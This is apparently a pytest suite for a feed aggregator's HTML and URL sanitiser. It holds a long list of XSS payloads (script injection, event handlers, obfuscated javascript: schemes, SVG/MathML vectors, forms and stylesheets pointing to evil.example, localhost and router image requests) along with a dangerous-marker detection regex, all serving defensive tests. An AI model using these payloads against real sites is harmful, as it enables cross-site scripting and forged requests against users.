"""Tests for aggregator.sanitize: catalogue rows OUT-01..04, LOAD-06 and feedparser's corpus."""

from __future__ import annotations

import io
import re
import time
from html.parser import HTMLParser
from pathlib import Path

import feedparser
import pytest

from aggregator.sanitize import (
    MAX_URL_CHARS,
    clean_text,
    html_to_text,
    safe_url,
    sanitize_html,
)

BASE = "https://news.example.com/world/story.html"
SHARED = Path(__file__).resolve().parents[2] / "shared"
SANITIZE_CORPUS = SHARED / "feeds" / "feedparser-tests" / "wellformed" / "sanitize"

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "object", "embed", "applet", "form", "input", "button",
    "meta", "base", "link", "svg", "math", "textarea", "select",
}  # fmt: skip
DANGEROUS_MARKERS = re.compile(
    r"<script|javascript:|vbscript:|\son[a-z]+\s*=|<iframe|<object|<embed|<style|expression\(",
    re.IGNORECASE,
)


class _TagCollector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_safe_markup(out: str) -> None:
    """No dangerous markers as text, no forbidden tag, no handler/style/target attribute,
    and every URL attribute is http(s) (or mailto for links)."""
    assert not DANGEROUS_MARKERS.search(out), out
    collector = _TagCollector()
    collector.feed(out)
    collector.close()
    for tag, attrs in collector.tags:
        assert tag not in FORBIDDEN_TAGS, out
        for name, value in attrs.items():
            assert not name.startswith("on"), out
            assert name not in {"style", "target", "class", "id", "xlink:href", "srcset"}, out
            if name in {"href", "src", "cite"}:
                assert value is not None
                allowed = (
                    ("http://", "https://", "mailto:") if name == "href" else ("http", "https")
                )
                assert value.lower().startswith(allowed), out
        if tag == "a" and "href" in attrs:
            assert attrs.get("rel") == "noopener noreferrer", out


# --- OUT-01: dangerous schemes in links ------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " \x01\x02javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java&#x09;script:alert(1)",
        "java&#9;script:alert(1)",
        "javascript&#58;alert(1)",
        "&#106;avascript:alert(1)",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "file:///etc/passwd",
        "mailto:someone@example.com",  # fine in content, never as an entry link
        "ftp://example.com/x",
        "",
        "   ",
        None,
        "http://[::1",
        "http://example.com:port/",
        "http:///no-host",
        "https://example.com/" + "a" * MAX_URL_CHARS,
    ],
)
def test_out_01_safe_url_rejects(url: str | None) -> None:
    assert safe_url(url, BASE) is None


@pytest.mark.parametrize(
    ("url", "base", "expected"),
    [
        ("https://example.com/a?b=1", None, "https://example.com/a?b=1"),
        ("HTTP://Example.com/", None, "http://Example.com/"),
        ("  https://example.com/x  ", None, "https://example.com/x"),
        ("/politics/1.html", BASE, "https://news.example.com/politics/1.html"),
        ("2.html", BASE, "https://news.example.com/world/2.html"),
        ("//cdn.example.net/a.png", BASE, "https://cdn.example.net/a.png"),
        # `&copy` must not turn into ©: the literal URL is kept.
        ("/q?a=1&copy=2", BASE, "https://news.example.com/q?a=1&copy=2"),
        ("https://example.com/a b", None, "https://example.com/a%20b"),
        ("https://例子.中国/新闻?id=1", None, "https://例子.中国/新闻?id=1"),
    ],
)
def test_out_01_safe_url_accepts(url: str, base: str | None, expected: str) -> None:
    assert safe_url(url, base) == expected


def test_out_01_relative_without_base_or_with_bad_base() -> None:
    assert safe_url("/a.html") is None
    assert safe_url("/a.html", "javascript:alert(1)") is None
    assert safe_url("/a.html", "/relative/base") is None


def test_out_01_links_in_content() -> None:
    html = (
        '<a href="javascript:alert(1)">a</a><a href="vbscript:x">b</a>'
        '<a href="data:text/html,x">c</a><a href=" java&#x09;script:alert(1)">d</a>'
        '<a href="&#x6A;avascript:alert(1)">e</a><q cite="javascript:alert(1)">f</q>'
        '<img src="data:image/png;base64,AAAA"><a href="mailto:desk@example.com">m</a>'
    )
    out = sanitize_html(html, BASE)
    assert_safe_markup(out)
    assert 'href="mailto:desk@example.com"' in out
    for text in "abcdef":
        assert f">{text}</" in out  # text kept, only the link dropped


# --- OUT-02: XSS vectors in content ----------------------------------------------------------

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '<img src="x.png" onerror="alert(1)">',
    '<body onload="alert(1)">',
    '<p onmouseover="alert(1)">hover</p>',
    '<a href="java&#x09;script:alert(1)">tab</a>',
    '<a href="jav&#x0A;ascript:alert(1)">nl</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<form action="https://evil.example/"><input name="q"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="background:url(javascript:alert(1))">css</div>',
    '<div style="width: expression(alert(1))">ie</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    "<style>body{background:url(https://evil.example/t.gif)}</style>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
    '<a href="https://ok.example/" target="_blank">new tab</a>',
    '<a href="https://ok.example/" rel="opener">opener</a>',
    '<img src="http://127.0.0.1:8080/admin/delete">',
    '<img src="http://localhost/x.png"><img src="http://[::1]/x.png">',
    '<img src="http://192.168.1.1/reboot"><img src="http://10.0.0.1/x">',
    '<img src="https://tracker.example/p.gif" width="1" height="1">',
    '<img src="https://feeds.feedburner.com/~r/x/~4/abc">',
    '<img src="https://pixel.wp.com/g.gif?x=1">',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    '<a href="javascript&colon;alert(1)">colon</a>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<details open ontoggle="alert(1)">d</details>',
    '<video><source onerror="alert(1)"></video>',
    "<textarea><script>alert(1)</script></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
]


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_out_02_xss_vectors(vector: str) -> None:
    out = sanitize_html(f"<p>before</p>{vector}<p>after</p>", BASE)
    assert_safe_markup(out)
    assert "<img" not in out or "127.0.0.1" not in out
    for host in ("127.0.0.1", "localhost", "[::1]", "192.168.1.1", "10.0.0.1", "tracker.example"):
        assert f"//{host}" not in out
    assert "feedburner" not in out and "pixel.wp.com" not in out
    assert "before" in out and "after" in out


def test_out_02_rel_added_and_relative_urls_made_absolute() -> None:
    out = sanitize_html(
        '<p>Read <a href="/more.html">more</a> <img src="pic.jpg" alt="图"></p>', BASE
    )
    assert '<a href="https://news.example.com/more.html" rel="noopener noreferrer">' in out
    assert '<img src="https://news.example.com/world/pic.jpg" alt="图">' in out


def test_out_02_relative_urls_dropped_without_base() -> None:
    out = sanitize_html('<a href="/more.html">more</a><img src="pic.jpg">', None)
    assert "href" not in out and "<img" not in out and "more" in out


def test_out_02_news_markup_kept() -> None:
    html = (
        "<h2>标题</h2><p>Text with <b>bold</b>, <em>em</em> and <code>x</code>.</p>"
        "<blockquote>quote</blockquote><ul><li>one</li></ul>"
        '<table><tr><th scope="col">h</th></tr><tr><td colspan="2">d</td></tr></table>'
        '<figure><img src="https://img.example/a.jpg" alt="a" width="600" height="400">'
        "<figcaption>cap</figcaption></figure>"
    )
    out = sanitize_html(html, None)
    for fragment in (
        "<h2>标题</h2>",
        "<b>bold</b>",
        "<em>em</em>",
        "<blockquote>quote</blockquote>",
        "<li>one</li>",
        'colspan="2"',
        'width="600"',
        "<figcaption>cap</figcaption>",
    ):
        assert fragment in out


# --- OUT-03: escaped markup stays text -------------------------------------------------------


def test_out_03_escaped_markup_stays_text() -> None:
    out = sanitize_html("&lt;script&gt;alert(1)&lt;/script&gt; &quot;&gt;&lt;img src=x&gt;", None)
    assert "<script" not in out and "<img" not in out
    assert "&lt;script&gt;" in out
    assert html_to_text("&lt;script&gt;alert(1)&lt;/script&gt;") == "<script>alert(1)</script>"


# --- OUT-04: characters XML cannot carry -----------------------------------------------------


def test_out_04_clean_text_removes_xml_illegal_characters() -> None:
    raw = "a\x00b\x08c\x0bd\x0ce\x1ff\ud800g\udfffh\ufffei\uffffj\tk\nl\rm 中文 😀 \x7f"
    assert clean_text(raw) == "abcdefghij\tk\nl\rm 中文 😀 \x7f"


def test_clean_text_byte_shortcut_equals_the_pattern() -> None:
    """Text is tested as bytes (``bytes.translate``) before the pattern runs: the same
    string for every code point alone, between letters, repeated, after a Han character,
    and for random mixes of ASCII and of the characters the pattern removes."""
    import random

    from aggregator.sanitize import _XML_BAD_RE

    def pattern(s: str) -> str:
        return _XML_BAD_RE.sub("", s)

    for cp in range(0x110000):
        for s in (chr(cp), f"a{chr(cp)}b", chr(cp) * 3, f"中{chr(cp)}\t"):
            assert clean_text(s) == pattern(s), hex(cp)
    rng = random.Random(16)
    pool = [*map(chr, range(0x80)), "\x00", "\x1f", "\x0b", "\ud800", "\udfff", "\ufffe"]
    pool += ["\uffff", "中", "é", "“", "\U0001f600", "\u2028"]
    for n in range(5000):
        s = "".join(rng.choice(pool[:0x80] if n % 2 else pool) for _ in range(rng.randrange(40)))
        assert clean_text(s) == pattern(s)
    assert clean_text("") == ""
    text = "clean ASCII text\twith tabs\r\nand lines"
    assert clean_text(text) is text  # unchanged text is returned as is


def test_out_04_sanitize_and_text_drop_illegal_characters() -> None:
    raw = "<p>bad\x00\x1b[31m \ud800 ]]> end</p>"
    out = sanitize_html(raw, None)
    assert clean_text(out) == out
    assert "]]&gt;" in out
    assert html_to_text(raw) == "bad[31m ]]> end"


# --- LOAD-06: bounded time on pathological input ---------------------------------------------

LOAD_06_BUDGET_S = 2.0


@pytest.mark.parametrize("tag", ["div", "span", "blockquote", "b"])
def test_load_06_deep_nesting_is_fast(tag: str) -> None:
    n = 100_000
    html = f"<{tag}>" * n + "deep text" + f"</{tag}>" * n  # ~1.1 MB for div
    start = time.perf_counter()
    out = sanitize_html(html, BASE)
    assert time.perf_counter() - start < LOAD_06_BUDGET_S
    start = time.perf_counter()
    text = html_to_text(html)
    assert time.perf_counter() - start < LOAD_06_BUDGET_S
    assert_safe_markup(out)
    assert out.count(f"<{tag}>") == 512
    assert text in {"deep text", ""}  # "" when the text lies past the length cap


def test_load_06_depth_cap_keeps_text() -> None:
    html = "<div>" * 2000 + "deep text" + "</div>" * 2000 + "<p>after</p>"
    out = sanitize_html(html, None)
    assert "deep text" in out
    assert out.count("<div>") == out.count("</div>") == 512
    assert out.endswith("</div><p>after</p>")


def test_load_06_huge_flat_input_is_fast_and_truncated_cleanly() -> None:
    html = "<p>" + "新闻 news " * 300_000 + '</p><a href="javascript:alert(1)">x</a>'
    start = time.perf_counter()
    out = sanitize_html(html, None)
    text = html_to_text(html)
    assert time.perf_counter() - start < LOAD_06_BUDGET_S
    assert len(out) < len(html)
    assert not text.endswith("<")


# --- html_to_text ----------------------------------------------------------------------------


def test_html_to_text_blocks_entities_whitespace() -> None:
    html = (
        "<h1>Title</h1><p>Hello&nbsp;&amp;   <b>world</b>\n  again</p><ul><li>一</li><li>二</li>"
        "</ul>a<br>b<script>var x = '<p>';</script><style>p{}</style>&#x4E2D;&#25991;"
    )
    assert html_to_text(html) == "Title\nHello & world again\n一\n二\na\nb中文"
    assert html_to_text("plain   text\n\n\nnext") == "plain text\nnext"
    assert html_to_text("") == ""


# --- feedparser's sanitize corpus ------------------------------------------------------------


def _corpus_fields(data: bytes, sanitize: bool) -> list[tuple[str, str | None]]:
    parsed = feedparser.parse(io.BytesIO(data), sanitize_html=sanitize)
    fields: list[tuple[str, str | None]] = []
    for entry in parsed.entries:
        for content in entry.get("content", []):
            fields.append((content.get("value", ""), content.get("base") or None))
        if "summary" in entry:
            fields.append((entry.summary, entry.get("summary_detail", {}).get("base") or None))
    return fields


@pytest.mark.skipif(not SANITIZE_CORPUS.is_dir(), reason=f"corpus not found: {SANITIZE_CORPUS}")
def test_out_02_feedparser_sanitize_corpus() -> None:
    """Every file of feedparser's wellformed/sanitize corpus, with feedparser's own sanitiser on
    (the brief) and off (our sanitiser alone must hold: feedparser's output is not trusted)."""
    files = sorted(SANITIZE_CORPUS.glob("*.xml"))
    assert len(files) > 700
    checked = 0
    for path in files:
        data = path.read_bytes()
        for sanitize in (True, False):
            for value, base in _corpus_fields(data, sanitize):
                out = sanitize_html(value, base)
                try:
                    assert_safe_markup(out)
                except AssertionError as exc:
                    raise AssertionError(f"{path.name} (feedparser sanitize={sanitize})") from exc
                checked += 1
    assert checked > 1000


def test_collapse_spaces_is_the_whitespace_regex() -> None:
    from aggregator.sanitize import _collapse_spaces

    ws = re.compile(r"\s+")
    for cp in range(0x3001):
        c = chr(cp)
        for s in (c, f"a{c}b", f"{c}{c}x{c}", f" {c}y "):
            assert _collapse_spaces(s) == ws.sub(" ", s), repr(s)
    assert _collapse_spaces("") == ""


def test_sanitize_html_resolves_against_each_calls_base_also_in_threads() -> None:
    from concurrent.futures import ThreadPoolExecutor

    def run(n: int) -> tuple[int, str]:
        return n, sanitize_html(f'<a href="p{n}">x</a><img src="i{n}.png">', f"https://h{n}.test/")

    with ThreadPoolExecutor(4) as pool:
        for n, out in pool.map(run, range(200)):
            assert f'href="https://h{n}.test/p{n}"' in out
            assert f'src="https://h{n}.test/i{n}.png"' in out
    assert 'href="' not in sanitize_html('<a href="rel">x</a>', None)
